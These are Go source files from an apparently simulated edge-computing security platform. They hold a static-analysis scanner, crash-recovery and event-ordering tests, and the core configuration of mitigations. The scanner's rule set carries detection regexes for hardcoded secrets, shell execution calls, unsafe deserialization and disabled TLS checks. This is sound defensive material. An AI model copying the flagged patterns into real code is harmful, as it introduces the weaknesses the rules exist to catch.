	Snippet  string   `json:"snippet"`
	// LikelyFalsePositive is set for matches in test, fixture, example, or
	// documentation paths (Lesson-7 triage heuristic).
	LikelyFalsePositive bool `json:"likelyFalsePositive"`
}

// Report aggregates a scan of one image.
type Report struct {
	ImageRef     string    `json:"imageRef"`
	Findings     []Finding `json:"findings"`
	FilesScanned int       `json:"filesScanned"`
}

// Actionable filters out likely false positives.
func (r *Report) Actionable() []Finding {
	var out []Finding
	for _, f := range r.Findings {
		if !f.LikelyFalsePositive {
			out = append(out, f)
		}
	}
	return out
}

// Scanner runs a rule set over image filesystems.
type Scanner struct {
	Rules []Rule
}

// NewScanner creates a scanner with the given rules (use DefaultRules for
// the stock set).
func NewScanner(rules []Rule) *Scanner {
	return &Scanner{Rules: rules}
}

var fpPathHints = []string{"/test", "_test.", "/tests/", "/docs/", "/examples/", "/fixtures/"}

func likelyFP(path string) bool {
	lower := strings.ToLower(path)
	for _, h := range fpPathHints {
		if strings.Contains(lower, h) {
			return true
		}
	}
	return false
}

// Scan extracts the image filesystem and applies every rule to every
// matching file, line by line.
func (s *Scanner) Scan(img *container.Image) *Report {
	rep, _ := s.ScanContext(context.Background(), img)
	return rep
}

// ScanContext is Scan with cancellation: the context is polled between
// files, and a done context abandons the scan, returning the context
// error with a nil report.
func (s *Scanner) ScanContext(ctx context.Context, img *container.Image) (*Report, error) {
	rep := &Report{ImageRef: img.Ref()}
	fs := img.Flatten()
	paths := make([]string, 0, len(fs))
	for p := range fs {
		paths = append(paths, p)
	}
	sort.Strings(paths)
	for _, path := range paths {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		content := string(fs[path].Content)
		if !isSourceFile(path) {
			continue
		}
		rep.FilesScanned++
		lines := strings.Split(content, "\n")
		for _, rule := range s.Rules {
			if !rule.appliesTo(path) {
				continue
			}
			for i, line := range lines {
				if rule.Pattern.MatchString(line) {
					rep.Findings = append(rep.Findings, Finding{
						RuleID:              rule.ID,
						Title:               rule.Title,
						Severity:            rule.Severity,
						Path:                path,
						Line:                i + 1,
						Snippet:             strings.TrimSpace(line),
						LikelyFalsePositive: likelyFP(path),
					})
				}
			}
		}
	}
	return rep, nil
}

var sourceExtensions = []string{".py", ".java", ".go", ".js", ".sh", ".rb"}

func isSourceFile(path string) bool {
	for _, ext := range sourceExtensions {
		if strings.HasSuffix(path, ext) {
			return true
		}
	}
	return false
}

// DefaultRules returns the stock rule set, covering the weakness classes
// the paper lists for M13: hardcoded credentials, improper input
// validation, weak cryptographic functions, unsafe deserialization, and
// disabled TLS verification.
func DefaultRules() []Rule {
	return []Rule{
		{
			ID: "hardcoded-credential", Title: "Hardcoded credential", Severity: Error,
			Pattern: regexp.MustCompile(`(?i)(api_key|apikey|password|secret|token)\s*=\s*["'][^"']{8,}["']`),
		},
		{
			ID: "weak-hash", Title: "Weak cryptographic hash", Severity: Warning,
			Pattern: regexp.MustCompile(`(?i)\b(md5|sha1)\s*\(`),
		},
		{
			ID: "sql-injection", Title: "SQL built by string concatenation", Severity: Error,
			Pattern: regexp.MustCompile(`(?i)(select|insert|update|delete)[^\n]*["']\s*\+`),
		},
		{
			ID: "tls-verify-disabled", Title: "TLS certificate verification disabled", Severity: Error,
			Pattern: regexp.MustCompile(`verify\s*=\s*False|InsecureSkipVerify:\s*true`),
		},
		{
			ID: "unsafe-deserialization", Title: "Unsafe deserialization of untrusted data", Severity: Error,
			Languages: []string{"java", "py"},
			Pattern:   regexp.MustCompile(`ObjectInputStream|pickle\.loads?\(|yaml\.load\(`),
		},
		{
			ID: "shell-injection", Title: "Command executed through shell", Severity: Error,
			Pattern: regexp.MustCompile(`shell\s*=\s*True|os\.system\(|exec\.Command\("(sh|bash)"`),
		},
		{
			ID: "eval-use", Title: "Dynamic code evaluation", Severity: Warning,
			Pattern: regexp.MustCompile(`\beval\s*\(`),
		},
	}
}
