package core

import (
	"encoding/json"
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"genio/internal/container"
	"genio/internal/orchestrator"
	"genio/internal/persist"
)

// walPlatform builds a secure platform persisting into dir.
func walPlatform(t *testing.T, dir string, opts ...Option) *Platform {
	t.Helper()
	store, err := persist.OpenWAL(dir)
	if err != nil {
		t.Fatalf("OpenWAL: %v", err)
	}
	p, err := New(SecureConfig(), append([]Option{WithStore(store)}, opts...)...)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return p
}

// seedDurable drives a representative control-plane history: joins, quota,
// deployments, a cordon, a node failure (reschedule), and an incident.
func seedDurable(t *testing.T, p *Platform) {
	t.Helper()
	addNode(t, p, "olt-01")
	addNode(t, p, "olt-02")
	addNode(t, p, "olt-03")
	pushSigned(t, p, container.AnalyticsImage())
	allowDeploy(t, p, "acme-ci", "acme")
	p.Cluster.SetQuota("acme", orchestrator.Resources{CPUMilli: 20000, MemoryMB: 40960})
	for i := 0; i < 4; i++ {
		spec := orchestrator.WorkloadSpec{
			Name: fmt.Sprintf("analytics-%d", i), Tenant: "acme",
			ImageRef: "acme/analytics:2.0.1", Isolation: orchestrator.IsolationSoft,
			Resources: orchestrator.Resources{CPUMilli: 500, MemoryMB: 512},
		}
		if _, err := p.Deploy("acme-ci", spec); err != nil {
			t.Fatalf("Deploy %s: %v", spec.Name, err)
		}
	}
	if err := p.Cluster.Cordon("olt-03"); err != nil {
		t.Fatal(err)
	}
	if _, err := p.Cluster.FailNode("olt-02"); err != nil {
		t.Fatal(err)
	}
	p.RecordIncident(Incident{Source: "test-probe", Workload: "analytics-0",
		Detail: "synthetic", Blocked: true})
	p.Flush()
}

// fingerprint renders everything recovery must reproduce byte-for-byte.
func fingerprint(t *testing.T, p *Platform) string {
	t.Helper()
	st := p.Cluster.ExportState()
	buf, err := json.MarshalIndent(st, "", " ")
	if err != nil {
		t.Fatal(err)
	}
	inc, err := json.MarshalIndent(p.Incidents(), "", " ")
	if err != nil {
		t.Fatal(err)
	}
	return string(buf) + "\n" + string(inc)
}

// TestCrashRecoveryExactState is the tentpole's core guarantee: kill -9
// after the group commit lands, reopen the directory, and the control
// plane is byte-identical — placements, quotas, cordons, verdict cache,
// and the incident ledger all survive on the log alone (no snapshot).
func TestCrashRecoveryExactState(t *testing.T) {
	dir := t.TempDir()
	p := walPlatform(t, dir)
	seedDurable(t, p)
	want := fingerprint(t, p)
	p.Crash()

	p2 := walPlatform(t, dir)
	defer p2.Close()
	if got := fingerprint(t, p2); got != want {
		t.Fatalf("state diverged across crash/recovery:\nbefore:\n%s\nafter:\n%s", want, got)
	}

	// Recovered placements are live state, not a display copy: the same
	// name is refused as a duplicate.
	pushSigned(t, p2, container.AnalyticsImage())
	allowDeploy(t, p2, "acme-ci", "acme")
	_, err := p2.Deploy("acme-ci", orchestrator.WorkloadSpec{
		Name: "analytics-0", Tenant: "acme", ImageRef: "acme/analytics:2.0.1",
		Isolation: orchestrator.IsolationSoft,
		Resources: orchestrator.Resources{CPUMilli: 500, MemoryMB: 512},
	})
	var dup *orchestrator.DuplicateNameError
	if !errors.As(err, &dup) {
		t.Fatalf("re-deploying recovered name = %v, want DuplicateNameError", err)
	}

	// New VMs never collide with recovered IDs.
	existing := map[string]bool{}
	for _, vm := range p2.Cluster.VMs() {
		existing[vm.ID] = true
	}
	w, err := p2.Deploy("acme-ci", orchestrator.WorkloadSpec{
		Name: "fresh", Tenant: "acme", ImageRef: "acme/analytics:2.0.1",
		Isolation: orchestrator.IsolationHard,
		Resources: orchestrator.Resources{CPUMilli: 500, MemoryMB: 512},
	})
	if err != nil {
		t.Fatalf("post-recovery deploy: %v", err)
	}
	if existing[w.VMID] {
		t.Fatalf("recovered platform reissued VM id %s", w.VMID)
	}

	// New incidents continue the recovered sequence, never reuse it.
	before := p2.Incidents()
	p2.RecordIncident(Incident{Source: "test-probe", Detail: "post-recovery"})
	p2.Flush()
	after := p2.Incidents()
	if len(after) != len(before)+1 {
		t.Fatalf("incidents %d -> %d", len(before), len(after))
	}
	last := after[len(after)-1]
	if last.Seq <= before[len(before)-1].Seq {
		t.Fatalf("incident seq went backwards: %d after %d", last.Seq, before[len(before)-1].Seq)
	}
}

// TestGracefulCloseCompacts proves Close snapshots: recovery replays no
// log tail and still reproduces the exact state.
func TestGracefulCloseCompacts(t *testing.T) {
	dir := t.TempDir()
	p := walPlatform(t, dir)
	seedDurable(t, p)
	want := fingerprint(t, p)
	p.Close()

	p2 := walPlatform(t, dir)
	defer p2.Close()
	if got := fingerprint(t, p2); got != want {
		t.Fatalf("state diverged across graceful restart:\nbefore:\n%s\nafter:\n%s", want, got)
	}
}

// TestRecoveredNodeReprovisionKeepsPlacements re-runs the provisioning
// pipeline over a recovered member (the daemon re-attests its fleet on
// boot) and checks the placements are not orphaned by a re-registration.
func TestRecoveredNodeReprovisionKeepsPlacements(t *testing.T) {
	dir := t.TempDir()
	p := walPlatform(t, dir)
	seedDurable(t, p)
	wantWls := len(p.Cluster.Workloads())
	p.Crash()

	p2 := walPlatform(t, dir)
	defer p2.Close()
	addNode(t, p2, "olt-01") // re-provision over the recovered member
	if got := len(p2.Cluster.Workloads()); got != wantWls {
		t.Fatalf("workloads after re-provision = %d, want %d", got, wantWls)
	}
	util := p2.Cluster.Utilization()
	for _, u := range util {
		if u.Node == "olt-01" && u.Workloads == 0 {
			t.Fatal("re-provisioning olt-01 dropped its placements")
		}
	}
}

// TestRecoveredVerdictCacheSkipsRescan: the admission verdict cache is
// part of the durable state, so a re-pushed identical image deploys
// without a fresh scan (Cached verdicts).
func TestRecoveredVerdictCacheSkipsRescan(t *testing.T) {
	dir := t.TempDir()
	p := walPlatform(t, dir)
	addNode(t, p, "olt-01")
	pushSigned(t, p, container.AnalyticsImage())
	allowDeploy(t, p, "acme-ci", "acme")
	if _, err := p.Deploy("acme-ci", orchestrator.WorkloadSpec{
		Name: "analytics", Tenant: "acme", ImageRef: "acme/analytics:2.0.1",
		Isolation: orchestrator.IsolationSoft,
		Resources: orchestrator.Resources{CPUMilli: 500, MemoryMB: 512},
	}); err != nil {
		t.Fatal(err)
	}
	cached := p.Cluster.AdmissionCacheSize()
	if cached == 0 {
		t.Fatal("no verdicts cached after a clean deploy")
	}
	p.Crash()

	p2 := walPlatform(t, dir)
	defer p2.Close()
	if got := p2.Cluster.AdmissionCacheSize(); got != cached {
		t.Fatalf("recovered verdict cache = %d entries, want %d", got, cached)
	}
}

// TestSnapshotWhileDeploying races the snapshot cadence against live
// deployments (run under -race): a snapshot taken mid-commit must never
// capture a half-applied placement, so recovery always lands on a state
// some serial history could have produced — and, after all deploys
// settle, on exactly the final state.
func TestSnapshotWhileDeploying(t *testing.T) {
	dir := t.TempDir()
	p := walPlatform(t, dir, WithSnapshotEvery(4))
	addNode(t, p, "olt-01")
	addNode(t, p, "olt-02")
	pushSigned(t, p, container.AnalyticsImage())
	allowDeploy(t, p, "acme-ci", "acme")

	const workers, per = 4, 15
	var wg sync.WaitGroup
	for g := 0; g < workers; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < per; i++ {
				spec := orchestrator.WorkloadSpec{
					Name: fmt.Sprintf("wl-%d-%02d", g, i), Tenant: "acme",
					ImageRef: "acme/analytics:2.0.1", Isolation: orchestrator.IsolationSoft,
					Resources: orchestrator.Resources{CPUMilli: 10, MemoryMB: 16},
				}
				if _, err := p.Deploy("acme-ci", spec); err != nil {
					t.Errorf("deploy %s: %v", spec.Name, err)
					return
				}
			}
		}(g)
	}
	snapStop := make(chan struct{})
	snapDone := make(chan struct{})
	go func() {
		defer close(snapDone)
		for {
			select {
			case <-snapStop:
				return
			default:
				if err := p.SnapshotNow(); err != nil {
					t.Errorf("snapshot: %v", err)
					return
				}
			}
		}
	}()
	wg.Wait()
	close(snapStop)
	<-snapDone
	p.Flush()
	want := fingerprint(t, p)
	p.Crash()

	p2 := walPlatform(t, dir)
	defer p2.Close()
	if got := fingerprint(t, p2); got != want {
		t.Fatal("recovery after concurrent snapshots diverged from live state")
	}
	if got := len(p2.Cluster.Workloads()); got != workers*per {
		t.Fatalf("recovered %d workloads, want %d", got, workers*per)
	}
}

// TestSnapshotCadenceCompactsLog: enough traffic past WithSnapshotEvery
// must eventually bound the replay tail (the background snapshot ran).
func TestSnapshotCadenceCompactsLog(t *testing.T) {
	dir := t.TempDir()
	store, err := persist.OpenWAL(dir)
	if err != nil {
		t.Fatal(err)
	}
	p, err := New(SecureConfig(), WithStore(store), WithSnapshotEvery(8))
	if err != nil {
		t.Fatal(err)
	}
	addNode(t, p, "olt-01")
	pushSigned(t, p, container.AnalyticsImage())
	allowDeploy(t, p, "acme-ci", "acme")
	for i := 0; i < 40; i++ {
		spec := orchestrator.WorkloadSpec{
			Name: fmt.Sprintf("wl-%02d", i), Tenant: "acme",
			ImageRef: "acme/analytics:2.0.1", Isolation: orchestrator.IsolationSoft,
			Resources: orchestrator.Resources{CPUMilli: 10, MemoryMB: 16},
		}
		if _, err := p.Deploy("acme-ci", spec); err != nil {
			t.Fatal(err)
		}
	}
	// Wait out any in-flight background snapshot, then assert one ran.
	if err := p.SnapshotNow(); err != nil {
		t.Fatal(err)
	}
	if store.LastLSN() == 0 {
		t.Fatal("no records were logged")
	}
	p.Crash()

	p2 := walPlatform(t, dir)
	defer p2.Close()
	if got := len(p2.Cluster.Workloads()); got != 40 {
		t.Fatalf("recovered %d workloads, want 40", got)
	}
}

// failingStore wraps a Store and can be flipped to fail every Append,
// modelling a full or dying disk under a live control plane.
type failingStore struct {
	persist.Store
	failing atomic.Bool
}

func (f *failingStore) Append(r persist.Record) error {
	if f.failing.Load() {
		return errFailDisk
	}
	return f.Store.Append(r)
}

var errFailDisk = errors.New("simulated disk failure")

// TestStoreFailureSurfacedNotSilent: once the store fails, the platform
// keeps serving (live state stays authoritative) but must SAY so — the
// sticky error is visible through StoreErr and a blocked incident is
// raised, instead of silently accepting non-durable deploys until a
// restart loses them.
func TestStoreFailureSurfacedNotSilent(t *testing.T) {
	fs := &failingStore{Store: persist.Memory()}
	p, err := New(SecureConfig(), WithStore(fs))
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	addNode(t, p, "olt-01")
	if err := p.StoreErr(); err != nil {
		t.Fatalf("healthy store reported failure: %v", err)
	}

	fs.failing.Store(true)
	addNode(t, p, "olt-02") // the node-join mutation hits the dead store

	if err := p.StoreErr(); !errors.Is(err, errFailDisk) {
		t.Fatalf("StoreErr = %v, want the sticky disk failure", err)
	}
	// The operator-visible incident lands asynchronously (it is raised
	// off the cluster lock that observed the failure).
	deadline := time.Now().Add(5 * time.Second)
	for {
		found := false
		for _, i := range p.Incidents() {
			if i.Source == "persist" && i.Blocked {
				found = true
			}
		}
		if found {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("no persist incident raised; incidents = %+v", p.Incidents())
		}
		time.Sleep(10 * time.Millisecond)
	}
	// The platform still serves and still tracks live state.
	if !p.Cluster.HasNode("olt-02") {
		t.Fatal("live state lost after store failure")
	}
}
