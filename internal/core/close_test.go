package core

// Regression tests for Platform.Close/Flush idempotence: double-Close used
// to rely on caller discipline (a second concurrent Close could return
// while the first was still draining). Now every Close blocks until the
// bus is drained, and Close/Flush/RecordIncident interleave freely.

import (
	"fmt"
	"sync"
	"testing"
)

func TestCloseIdempotentSequential(t *testing.T) {
	p, err := New(LegacyConfig())
	if err != nil {
		t.Fatal(err)
	}
	p.RecordIncident(Incident{Source: "test", Detail: "before close"})
	p.Close()
	p.Close() // second Close must be a no-op, not a panic or deadlock
	if got := len(p.Incidents()); got != 1 {
		t.Fatalf("incidents after double close = %d, want 1", got)
	}
	// The platform stays usable: late incidents apply synchronously.
	p.RecordIncident(Incident{Source: "test", Detail: "after close"})
	if got := len(p.Incidents()); got != 2 {
		t.Fatalf("incidents after late record = %d, want 2", got)
	}
	p.Flush() // Flush after Close must not block
}

func TestCloseFlushRecordConcurrent(t *testing.T) {
	p, err := New(LegacyConfig())
	if err != nil {
		t.Fatal(err)
	}
	const (
		recorders = 8
		perG      = 50
		closers   = 4
		flushers  = 4
	)
	var wg sync.WaitGroup
	for g := 0; g < recorders; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < perG; i++ {
				p.RecordIncident(Incident{Source: "stress", Detail: fmt.Sprintf("g%d-%d", g, i)})
			}
		}(g)
	}
	for g := 0; g < flushers; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < perG; i++ {
				p.Flush()
			}
		}()
	}
	for g := 0; g < closers; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			p.Close()
		}()
	}
	wg.Wait()
	// No incident may be lost, whichever side of the close it landed on.
	if got := len(p.Incidents()); got != recorders*perG {
		t.Fatalf("incidents = %d, want %d", got, recorders*perG)
	}
	if p.IncidentCounts()["stress"] != recorders*perG {
		t.Fatalf("counts = %v", p.IncidentCounts())
	}
}

// TestCloseBlocksUntilDrained checks that every concurrent Close waits for
// the queued backlog, not just the call that flips the closed flag.
func TestCloseBlocksUntilDrained(t *testing.T) {
	p, err := New(LegacyConfig())
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 500; i++ {
		p.RecordIncident(Incident{Source: "backlog", Detail: "queued"})
	}
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			p.Close()
			// After any Close returns, the full backlog must be visible.
			if got := len(p.Incidents()); got != 500 {
				t.Errorf("incidents visible after Close = %d, want 500", got)
			}
		}()
	}
	wg.Wait()
}
