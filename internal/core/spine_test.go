package core

// Flush/Close ordering guarantees expressed through the event spine:
// publish-after-close errors at the spine surface while RecordIncident
// degrades to a synchronous append (nothing lost), subscribers observe
// exactly the flushed state, and discarded platforms leave no goroutines
// behind.

import (
	"fmt"
	"runtime"
	"sync/atomic"
	"testing"
	"time"

	"genio/internal/events"
)

func TestPublishEventAfterCloseErrors(t *testing.T) {
	p, err := New(LegacyConfig())
	if err != nil {
		t.Fatal(err)
	}
	if err := p.PublishEvent(events.Event{Topic: events.TopicMetric, Key: "k"}); err != nil {
		t.Fatalf("publish before close: %v", err)
	}
	p.Close()
	if err := p.PublishEvent(events.Event{Topic: events.TopicMetric, Key: "k"}); err != events.ErrClosed {
		t.Fatalf("publish after close: err = %v, want events.ErrClosed", err)
	}
	if _, err := p.Subscribe("late", nil, func([]events.Event) {}); err != events.ErrClosed {
		t.Fatalf("subscribe after close: err = %v, want events.ErrClosed", err)
	}
	// The incident path must keep the old bus contract: late incidents
	// are applied synchronously, never lost, never an error.
	p.RecordIncident(Incident{Source: "late", Detail: "after close"})
	if got := p.IncidentCounts()["late"]; got != 1 {
		t.Fatalf("late incident count = %d, want 1", got)
	}
}

// TestSubscriberSeesExactlyFlushedIncidents: after Flush, an external
// subscriber has seen exactly the incidents the platform log holds — the
// read-your-writes contract extended to every subscriber.
func TestSubscriberSeesExactlyFlushedIncidents(t *testing.T) {
	p, err := New(LegacyConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	var seen atomic.Int64
	if _, err := p.Subscribe("counter", []events.Topic{events.TopicIncident}, func(b []events.Event) {
		seen.Add(int64(len(b)))
	}); err != nil {
		t.Fatal(err)
	}
	for round := 1; round <= 5; round++ {
		for i := 0; i < 40; i++ {
			p.RecordIncident(Incident{Source: "round", Workload: fmt.Sprintf("w%d", i%7), Detail: "x"})
		}
		p.Flush()
		want := int64(round * 40)
		if got := seen.Load(); got != want {
			t.Fatalf("round %d: subscriber saw %d incidents after flush, want %d", round, got, want)
		}
		if got := len(p.Incidents()); int64(got) != want {
			t.Fatalf("round %d: log holds %d incidents, want %d", round, got, want)
		}
	}
}

// TestIncidentsKeepRecordOrder: a single goroutine's incidents come back
// in the order it recorded them, even across different workload keys
// (different spine shards) — the Seq field restores the global order the
// single-writer bus used to give for free.
func TestIncidentsKeepRecordOrder(t *testing.T) {
	p, err := New(LegacyConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	const n = 300
	for i := 0; i < n; i++ {
		p.RecordIncident(Incident{Source: "order",
			Workload: fmt.Sprintf("w%d", i%11), Detail: fmt.Sprintf("%d", i)})
	}
	got := p.Incidents()
	if len(got) != n {
		t.Fatalf("len = %d, want %d", len(got), n)
	}
	for i, inc := range got {
		if inc.Detail != fmt.Sprintf("%d", i) {
			t.Fatalf("index %d holds incident %q (cross-shard order lost)", i, inc.Detail)
		}
		if inc.Seq != uint64(i+1) {
			t.Fatalf("index %d has seq %d, want %d", i, inc.Seq, i+1)
		}
	}
}

// TestCloseLeavesNoGoroutines is the goleak-style regression: platform
// lifecycles must not leak spine drainers.
func TestCloseLeavesNoGoroutines(t *testing.T) {
	baseline := runtime.NumGoroutine()
	for i := 0; i < 10; i++ {
		p, err := New(LegacyConfig())
		if err != nil {
			t.Fatal(err)
		}
		for j := 0; j < 64; j++ {
			p.RecordIncident(Incident{Source: "leakcheck", Workload: fmt.Sprintf("w%d", j%5), Detail: "x"})
		}
		p.Close()
	}
	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		if runtime.NumGoroutine() <= baseline+2 {
			return
		}
		runtime.Gosched()
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("goroutines leaked across platform lifecycles: baseline %d, now %d",
		baseline, runtime.NumGoroutine())
}

// TestPublishEventIncidentRoutesThroughLog: incident-topic publishes on
// the public API join the materialised log with proper Seq order, and
// foreign payloads on the incident topic are rejected instead of
// silently diverging the log from the subscribers' view.
func TestPublishEventIncidentRoutesThroughLog(t *testing.T) {
	p, err := New(LegacyConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	p.RecordIncident(Incident{Source: "a", Detail: "first"})
	if err := p.PublishEvent(events.Event{Topic: events.TopicIncident,
		Payload: Incident{Source: "b", Detail: "second"}}); err != nil {
		t.Fatalf("incident publish: %v", err)
	}
	p.RecordIncident(Incident{Source: "a", Detail: "third"})
	got := p.Incidents()
	if len(got) != 3 {
		t.Fatalf("log holds %d incidents, want 3", len(got))
	}
	for i, want := range []string{"first", "second", "third"} {
		if got[i].Detail != want || got[i].Seq != uint64(i+1) {
			t.Fatalf("index %d = {detail:%q seq:%d}, want {%q, %d}", i, got[i].Detail, got[i].Seq, want, i+1)
		}
	}
	if err := p.PublishEvent(events.Event{Topic: events.TopicIncident, Payload: "not an incident"}); err == nil {
		t.Fatal("foreign payload accepted on the incident topic")
	}
}

// TestIncidentTopicPinnedToBlock: a Drop-default platform still never
// loses an incident.
func TestIncidentTopicPinnedToBlock(t *testing.T) {
	cfg := LegacyConfig()
	cfg.EventBackpressure = events.Drop
	cfg.EventShards = 1
	cfg.EventQueueCapacity = 2
	p, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	if got := p.EventPolicyFor(events.TopicIncident); got != events.Block {
		t.Fatalf("incident policy = %v, want block", got)
	}
	if got := p.EventPolicyFor(events.TopicMetric); got != events.Drop {
		t.Fatalf("metric policy = %v, want drop", got)
	}
	const n = 1000
	for i := 0; i < n; i++ {
		p.RecordIncident(Incident{Source: "pinned", Workload: "w", Detail: "x"})
	}
	if got := p.IncidentCounts()["pinned"]; got != n {
		t.Fatalf("incidents = %d, want %d (drop-default platform lost incidents)", got, n)
	}
}

// TestMetricsAccounting: the per-topic ledger balances after Flush.
func TestMetricsAccounting(t *testing.T) {
	p, err := New(LegacyConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	for i := 0; i < 30; i++ {
		p.RecordIncident(Incident{Source: "acct", Workload: fmt.Sprintf("w%d", i%3), Detail: "x"})
	}
	p.Flush()
	st := p.Metrics()[events.TopicIncident]
	if st.Published != 30 || st.Delivered != 30 || st.Dropped != 0 {
		t.Fatalf("incident topic stats = %+v, want 30/30/0", st)
	}
	if p.EventPolicy() != events.Block {
		t.Fatalf("default policy = %v, want block", p.EventPolicy())
	}
}
