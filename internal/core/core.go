// Package core assembles the GENIO platform: the cloud / edge / far-edge
// deployment of Figure 1, the software architecture of Figure 2, and the
// full security pipeline of Sections IV–VI wired end to end.
//
// A Platform owns a certificate authority, a boot-signing authority, the
// container registry, and the orchestration cluster; edge nodes (OLTs) are
// provisioned through the M1–M9 infrastructure pipeline (hardening, secure
// boot, attestation, sealed storage, file-integrity baseline), ONUs onboard
// through M3/M4, and workloads pass the M10–M18 admission and runtime
// pipeline. Every mitigation is individually switchable, which is what the
// end-to-end attack experiments toggle.
package core

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"sync/atomic"

	"genio/internal/container"
	"genio/internal/events"
	"genio/internal/federation"
	"genio/internal/fim"
	"genio/internal/host"
	"genio/internal/malware"
	"genio/internal/orchestrator"
	"genio/internal/persist"
	"genio/internal/pki"
	"genio/internal/pon"
	"genio/internal/rbac"
	"genio/internal/sandbox"
	"genio/internal/sast"
	"genio/internal/sca"
	"genio/internal/scap"
	"genio/internal/secureboot"
	"genio/internal/storage"
	"genio/internal/tpm"
	"genio/internal/trace"
	"genio/internal/vuln"

	falcoengine "genio/internal/falco"
)

// Config selects which mitigations are active. The zero value is the
// fully unprotected legacy posture; SecureConfig returns the paper's
// security-by-design posture.
type Config struct {
	// Infrastructure level.
	PONMode       pon.SecurityMode // M3/M4: plaintext, encrypted, authenticated
	HardenOS      bool             // M1/M2
	SecureBoot    bool             // M5
	SealedStorage bool             // M6 (TPM-bound volume unlock)
	FIMEnabled    bool             // M7
	// VulnManagement enables periodic CVE scanning and patching of OS and
	// middleware components (M8/M12).
	VulnManagement bool
	// Middleware level.
	ClusterSettings       orchestrator.Settings // M11 posture
	RBACEnabled           bool                  // M10
	VerifyImageSignatures bool                  // supply-chain gate
	// Application level.
	AdmissionScanning bool // M13/M14/M16 gates at deploy time
	SandboxEnabled    bool // M17
	RuntimeMonitoring bool // M18
	TenantQuotas      bool // T8 resource-abuse counter

	// Event-spine tuning (see internal/events). Zero values take the
	// spine defaults: 8 shards, 1024-deep queues, Block backpressure.
	// EventBackpressure is the default policy for lossy streams (falco
	// alerts, audit, metrics): Block never loses an event; Drop trades
	// completeness for bounded producer latency, with exact per-topic
	// drop counters (Metrics). The incident topic is always Block —
	// the security log is never lossy, whatever the default.
	EventShards        int
	EventQueueCapacity int
	EventBackpressure  events.Policy
}

// SecureConfig returns the full security-by-design posture.
func SecureConfig() Config {
	return Config{
		PONMode:               pon.ModeAuthenticated,
		HardenOS:              true,
		SecureBoot:            true,
		SealedStorage:         true,
		FIMEnabled:            true,
		VulnManagement:        true,
		ClusterSettings:       orchestrator.HardenedSettings(),
		RBACEnabled:           true,
		VerifyImageSignatures: true,
		AdmissionScanning:     true,
		SandboxEnabled:        true,
		RuntimeMonitoring:     true,
		TenantQuotas:          true,
	}
}

// LegacyConfig returns the unprotected pre-project posture.
func LegacyConfig() Config {
	return Config{
		PONMode:         pon.ModePlaintext,
		ClusterSettings: orchestrator.InsecureDefaults(),
	}
}

// Incident is one security-relevant occurrence recorded by the platform.
type Incident struct {
	Source   string `json:"source"` // admission | sandbox | falco | pon | boot | fim
	Workload string `json:"workload,omitempty"`
	Detail   string `json:"detail"`
	Blocked  bool   `json:"blocked"` // true if the action was prevented
	// AtMs is the platform-clock time of the incident (zero unless a
	// clock is installed with WithClock).
	AtMs int64 `json:"atMs,omitempty"`
	// Seq is the platform-assigned record sequence number (1-based).
	// Incidents shard across spine queues by workload, so delivery
	// interleaving is scheduler-dependent; Seq preserves the global
	// record order the pre-spine single-writer bus gave for free, and
	// Incidents() returns the log sorted by it.
	Seq uint64 `json:"seq,omitempty"`
}

// Option configures a Platform beyond its mitigation Config.
type Option func(*Platform)

// WithClock installs a millisecond time source on the platform and every
// subsystem with a time seam: incidents, workload placements, failovers,
// and falco alerts are stamped with it. Simulations inject a deterministic
// virtual clock so runs are replayable from a seed; without this option
// all stamps stay zero and behavior is unchanged.
func WithClock(now func() int64) Option {
	return func(p *Platform) { p.now = now }
}

// WithPlacementStrategy sets the cluster-wide default placement
// strategy ("binpack" | "spread") applied to workloads that do not set
// their own WorkloadSpec.PlacementPolicy — equivalent to setting
// Config.ClusterSettings.PlacementStrategy, for callers configuring by
// option rather than by settings struct.
func WithPlacementStrategy(strategy string) Option {
	return func(p *Platform) { p.Cluster.Settings.PlacementStrategy = strategy }
}

// EdgeNode is a provisioned OLT edge hub.
type EdgeNode struct {
	Name     string
	Host     *host.Host
	TPM      *tpm.TPM
	Firmware *secureboot.Firmware
	Volume   *storage.Volume
	OLT      *pon.OLT
	FIM      *fim.Monitor
	Chain    []secureboot.Component
	Attested bool
	// ManualUnlock is true when sealed storage was unavailable and the
	// node needed a passphrase at boot (Lesson 3).
	ManualUnlock bool
}

// Errors returned by platform operations.
var (
	ErrBootFailed   = errors.New("core: node failed verified boot")
	ErrAttestFailed = errors.New("core: node attestation failed")
	ErrNoNode       = errors.New("core: unknown edge node")
)

// Platform is a running GENIO deployment. Safe for concurrent use: node
// state sits behind a read/write lock, every telemetry stream flows
// through a sharded event spine (see events.go and internal/events), and
// deployments fan admission scanning out inside the cluster. Call Flush
// before reading incidents recorded by other goroutines, and Close when
// discarding the platform.
type Platform struct {
	Config   Config
	CA       *pki.CA
	Signer   *secureboot.Signer
	Registry *container.Registry
	Cluster  *orchestrator.Cluster
	Enforcer *sandbox.Enforcer
	Detector *falcoengine.Engine
	RBAC     *rbac.Engine

	nodeMu sync.RWMutex
	nodes  map[string]*EdgeNode

	// spine is the unified pub/sub backbone; incview materialises its
	// incident topic into the log behind Incidents()/IncidentCounts();
	// alertSink publishes falco detections onto the falco.alert topic.
	spine     *events.Spine
	incview   *incidentView
	alertSink falcoengine.Sink

	// now, when non-nil, stamps incidents (set once at construction via
	// WithClock; read-only afterwards, so concurrent recorders need no
	// lock).
	now func() int64

